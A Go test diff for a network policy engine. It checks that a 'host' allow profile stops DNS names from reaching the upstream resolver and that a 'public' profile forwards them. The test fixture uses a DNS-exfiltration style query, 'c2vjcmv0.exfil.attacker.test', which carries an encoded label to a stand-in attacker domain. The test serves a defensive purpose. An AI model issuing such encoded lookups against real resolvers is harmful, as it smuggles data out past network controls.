@@ -2,6 +2,8 @@ package engine
 
 import (
 	"testing"
+
+	"github.com/miekg/dns"
 )
 
 // Regression tests for the hostile review of the engine (issue 15's
@@ -67,5 +69,25 @@ func TestRebindingAnswerGetsOnlyItsAddressRulePorts(t *testing.T) {
 	defer c.Close()
 	if got, err := echoOnce(c, "x"); err != nil || got != "x" {
 		t.Fatalf("echo: %q %v", got, err)
+	}
+}
+
+// The host profile alone (or any address rule but any and public) forwards
+// no name upstream: NXDOMAIN, and the upstream never sees the query. The
+// public profile, same upstream, same name, does forward it.
+func TestHostProfileForwardsNoNameUpstream(t *testing.T) {
+	up := newUpstream(t, map[string][]string{"c2vjcmv0.exfil.attacker.test.": {"203.0.113.7"}})
+	dnsCfg := map[string]any{"dns": map[string]any{"upstream": []string{up.addr.String()}}}
+	h := start(t, baseConfig(t, `[{"action":"allow","dest":{"kind":"group","group":"host"},"id":"allow@host"},
+	 {"action":"allow","dest":{"kind":"cidr","cidr":"203.0.113.0/24"},"protocols":["tcp"],"id":"allow@203.0.113.0/24:tcp"}]`, "deny", dnsCfg))
+	if r := h.query("10.0.2.3", "udp", "c2vjcmv0.exfil.attacker.test"); r.Rcode != dns.RcodeNameError {
+		t.Fatalf("host profile: rcode %d", r.Rcode)
+	}
+	if up.saw("c2vjcmv0.exfil.attacker.test") {
+		t.Fatal("allow@host only, yet the upstream saw the name")
+	}
+	h2 := start(t, baseConfig(t, rulesPublic, "deny", dnsCfg))
+	if got := answers(h2.query("10.0.2.3", "udp", "c2vjcmv0.exfil.attacker.test")); len(got) != 1 || !up.saw("c2vjcmv0.exfil.attacker.test") {
+		t.Fatalf("public profile: %v, upstream saw it: %v", got, up.saw("c2vjcmv0.exfil.attacker.test"))
 	}
 }
